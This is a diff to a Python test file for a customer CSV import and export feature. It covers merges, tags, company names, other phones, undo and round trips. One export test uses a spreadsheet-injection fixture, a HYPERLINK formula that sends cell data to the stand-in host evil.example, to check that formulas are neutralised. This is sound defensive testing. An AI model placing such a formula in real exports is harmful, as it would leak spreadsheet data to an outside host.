@@ -70,7 +70,12 @@ def test_the_dry_run_says_what_each_row_would_become_and_writes_no_customer(make
     rows = {row["row"]: row for row in customer_import.review["rows"]}
     assert rows[2]["action"] == "new"
     assert rows[3]["action"] == "merge"
-    assert rows[3]["detail"].startswith("Into Wade W. (same mobile); adds: address, email, notes")
+    assert rows[3]["detail"] == (
+        "Into Wade W. (same mobile); adds: address, company name, email, other phones"
+    )
+    # The dry run shows what the new fields will hold.
+    assert rows[2]["extra"] == "Tags: VIP, Maintenance plan"
+    assert rows[3]["extra"] == "Warren Dental · Other phones: (512) 555-0199"
     assert (rows[4]["action"], rows[4]["detail"]) == ("skip", "No name.")
     assert rows[5]["detail"] == "No mobile number: “(800) 555-0100” is not a mobile number."
     assert rows[6]["detail"] == "“555-0104” is not a valid phone number."
@@ -116,11 +121,15 @@ def test_an_hcp_file_is_imported_with_addresses_tags_and_merges(make):
     assert jane.name == "Jane Cooper"
     assert jane.email == "jane@example.com"
     assert jane.address == "12 Oak St, Apt 2, Austin, TX 78701"
-    assert jane.notes == "Gate code 1234\nDog in the yard\nTags: VIP, Maintenance plan"
+    assert jane.notes == "Gate code 1234\nDog in the yard"
+    assert jane.tags == ["VIP", "Maintenance plan"]
+    assert (jane.company_name, jane.other_phones) == (None, [])
     wade = customers["+15125550102"]
     assert wade.name == "Wade W."  # kept: a merge never overwrites
     assert wade.email == "wade@example.com"  # filled in
-    assert wade.notes == ("Prefers mornings\nCompany: Warren Dental\nOther phones: 512-555-0199")
+    assert wade.notes == "Prefers mornings"  # nothing of the file's went into the notes
+    assert wade.company_name == "Warren Dental"
+    assert wade.other_phones == ["+15125550199"]
     ids = imports.imported_customer_ids(customer_import=customer_import)
     assert ids.created == [jane.id]
     assert ids.merged == [wade.id]
@@ -134,7 +143,9 @@ def test_a_jobber_file_takes_the_service_address_and_the_main_phone_when_no_mobi
     kristin = customers["+17375550112"]  # no mobile column value: the main phone
     assert kristin.name == "Kristin Watson"
     assert kristin.address == "5 Lake Dr, Suite 4, Lakeway, TX 78734"
-    assert "Company: Watson Realty" in kristin.notes
+    assert kristin.company_name == "Watson Realty"
+    assert kristin.notes is None
+    assert customers["+17375550111"].tags == ["Residential"]
 
 
 def test_a_merge_by_email_and_the_same_person_twice_in_the_file(make):
@@ -316,6 +327,9 @@ def test_export_has_the_import_s_columns_and_neutralises_formulas(make):
         email="jo@example.com",
         address="+1 Main St",
         notes="@SUM(1+1)\n-2",
+        company_name="=Evil Co",
+        other_phones="+44 7911 123456, ext. 12",
+        tags="-Summer, VIP",
     )
     # A number from abroad, stored before mobiles had to be US numbers: the export still
     # neutralises its leading "+".
@@ -325,10 +339,28 @@ def test_export_has_the_import_s_columns_and_neutralises_formulas(make):
     text = "".join(export_customers_csv(company=company))
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
-    assert rows[0] == ["Name", "Mobile phone", "Email", "Address", "Notes", "Added"]
+    assert rows[0] == [
+        "Name",
+        "Company name",
+        "Mobile phone",
+        "Other phones",
+        "Email",
+        "Address",
+        "Tags",
+        "Notes",
+        "Added",
+    ]
     assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    assert rows[1][1:5] == ["(512) 555-0101", "jo@example.com", "'+1 Main St", "'@SUM(1+1)\n-2"]
-    assert rows[2][:2] == ["Zoë", "'+44 7911 123456"]
+    assert rows[1][1:8] == [
+        "'=Evil Co",
+        "(512) 555-0101",
+        "'+44 7911 123456, ext. 12",
+        "jo@example.com",
+        "'+1 Main St",
+        "'-Summer, VIP",
+        "'@SUM(1+1)\n-2",
+    ]
+    assert rows[2][:4] == ["Zoë", "", "'+44 7911 123456", ""]
 
     # It imports back, into another company, unchanged.
     other = make.company()
@@ -338,6 +370,88 @@ def test_export_has_the_import_s_columns_and_neutralises_formulas(make):
     assert customers["+15125550101"].name.startswith("=HYPERLINK")
     assert customers["+15125550101"].address == "+1 Main St"
     assert "+447911123456" not in customers
+    # The new columns map back onto the same fields, not into the notes.
+    back_again = customers["+15125550101"]
+    assert back_again.company_name == "=Evil Co"
+    assert back_again.other_phones == ["+447911123456", "ext. 12"]
+    assert back_again.tags == ["-Summer", "VIP"]
+    assert back_again.notes == "@SUM(1+1)\n-2"
+
+
+def test_an_export_imported_back_gives_the_same_customers(make):
+    """Round trip: every exported field, lists included, comes back as it was."""
+    company = make.company()
+    make.customer(
+        company,
+        name="Jane Cooper",
+        phone="+15125550101",
+        email="jane@example.com",
+        address="12 Oak St, Austin, TX 78701",
+        notes="Gate code 1234",
+        company_name="Cooper Dental",
+        other_phones="(512) 555-0199, 512 555 0198 ext 4",
+        tags="VIP, Maintenance plan, Café",
+    )
+    make.customer(company, name="Bo", phone="+15125550102")
+    fields = ("name", "email", "address", "notes", "company_name", "other_phones", "tags")
+
+    def snapshot(of):
+        return {phone: tuple(getattr(c, f) for f in fields) for phone, c in _customers(of).items()}
+
+    text = "".join(export_customers_csv(company=company))
+    other = make.company()
+    back = _import(other, text.encode("utf-8"))
+    assert (back.created_count, back.skipped_count) == (2, 0)
+    assert snapshot(other) == snapshot(company)
+    assert _customers(other)["+15125550102"].tags == []
+    # A number with an extension is kept as typed (E.164 has no room for it).
+    assert snapshot(company)["+15125550101"][5] == ["+15125550199", "512 555 0198 ext 4"]
+
+
+def test_a_merge_adds_other_phones_and_tags_fills_the_company_and_undo_restores_them(make):
+    company = make.company()
+    jo = make.customer(
+        company, name="Jo", phone="+15125550101", other_phones="512-555-0199", tags="VIP"
+    )
+    al = make.customer(company, name="Al", phone="+15125550102", company_name="Al's Bakery")
+    data = csv_bytes(
+        ["Name", "Mobile", "Home Phone", "Work Phone", "Company", "Tags"],
+        [
+            ["Jo", "5125550101", "(512) 555-0199", "512-555-0177", "Jo Co", "vip, Roof"],
+            ["Al", "5125550102", "5125550102", "", "Other Co", "VIP"],
+        ],
+    )
+    customer_import = _import(company, data)
+    db.session.refresh(jo)
+    db.session.refresh(al)
+    assert jo.other_phones == ["+15125550199", "+15125550177"]  # the known one not twice
+    assert jo.tags == ["VIP", "Roof"]  # "vip" is the tag it has
+    assert jo.company_name == "Jo Co"  # it had none
+    assert al.company_name == "Al's Bakery"  # kept: a merge never overwrites
+    assert al.other_phones == []  # its own mobile is not an other phone
+    assert al.tags == ["VIP"]
+    assert (jo.notes, al.notes) == (None, None)
+
+    undo.undo_import(customer_import=customer_import, actor=company.owner, now=utcnow())
+    db.session.commit()
+    db.session.refresh(jo)
+    db.session.refresh(al)
+    assert (jo.other_phones, jo.tags, jo.company_name) == (["+15125550199"], ["VIP"], None)
+    assert (al.other_phones, al.tags, al.company_name) == ([], [], "Al's Bakery")
+
+
+def test_tags_and_phones_a_customer_cannot_keep_go_to_the_notes(make):
+    company = make.company()
+    tags = ", ".join(f"t{n}" for n in range(25)) + ", " + "x" * 41
+    phones = ", ".join(f"512555{n:04d}" for n in range(300, 312))
+    data = csv_bytes(["Name", "Mobile", "Phone", "Tags"], [["Jo", "5125550101", phones, tags]])
+    _import(company, data)
+    jo = _customers(company)["+15125550101"]
+    assert jo.tags == [f"t{n}" for n in range(20)]
+    assert len(jo.other_phones) == 10
+    assert jo.notes == (
+        "Tags: t20, t21, t22, t23, t24, " + "x" * 41 + "\nOther phones: +15125550310, +15125550311"
+    )
 
 
 @pytest.mark.parametrize(
